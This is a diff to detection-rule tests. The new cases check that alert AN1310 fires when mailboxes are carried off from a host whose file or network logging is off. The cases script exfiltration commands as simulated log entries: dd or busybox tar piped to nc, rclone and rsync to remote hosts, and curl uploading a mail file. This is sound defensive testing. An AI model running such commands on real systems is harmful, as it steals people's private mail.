@@ -7,7 +7,7 @@ import {
   HostLog,
   MINUTE,
 } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
-import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
+import { atMostAt, firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
 
 /** Ways around AN1310 of which there is no recording, seen in full: each must alert. */
 const OUT = '203.0.113.66';
@@ -143,3 +143,46 @@ for (const [says, act] of Object.entries(EVASIONS))
     act(facts);
     firesAt(await scanLog(facts.log), 'AN1310', 'medium');
   });
+
+const POORER: Readonly<Record<string, (facts: Facts) => void>> = {
+  'one pipeline, of which only the programs are recorded': ({ mine, shell }) => {
+    shell.pipeline(`/bin/dd if=${mine.path}`, '/usr/bin/nc x 9');
+  },
+  'a copying tool that goes out by itself': ({ shell }) => {
+    shell.run('/usr/bin/rclone copy Maildir far:');
+  },
+  'busybox in a pipeline': ({ shell }) => {
+    shell.pipeline('/bin/busybox tar c Maildir', '/bin/busybox nc x 9');
+  },
+  'a message moved out and sent': ({ log, other }) => {
+    const root = log.shell('root');
+    root.run(`/bin/mv ${other.path} /root/.n`);
+    log.wait(DAY);
+    root.run('/usr/bin/curl -F f=@/root/.n http://x');
+  },
+};
+
+for (const [says, act] of Object.entries(POORER))
+  test(`mail is carried off by ${says}, with neither files nor connections recorded`, async () => {
+    const log = new HostLog({ files: false, network: false });
+    const mine = log.deliver();
+    const other = log.deliver({ to: 'buyer' });
+    log.wait(MINUTE);
+    act({ log, mine, other, shell: log.shell('clerk') });
+    firesAt(await scanLog(log), 'AN1310', 'medium');
+  });
+
+test('a transfer tool that reads the store itself, with no connections recorded', async () => {
+  const log = new HostLog({ network: false });
+  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
+  const mine = log.deliver();
+  log.shell('clerk').run('/usr/bin/mutt').read(mine.path);
+  log.shell('clerk').run('/usr/bin/rsync -a Maildir u@far.example.net:m').read(mine.path);
+  firesAt(await scanLog(log), 'AN1310', 'medium');
+  const local = new HostLog({ network: false });
+  local.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
+  const again = local.deliver();
+  local.shell('clerk').run('/usr/bin/mutt').read(again.path);
+  local.shell('clerk').run('/usr/bin/rsync -a Maildir /mnt/disk').read(again.path);
+  atMostAt(await scanLog(local), 'informational');
+});
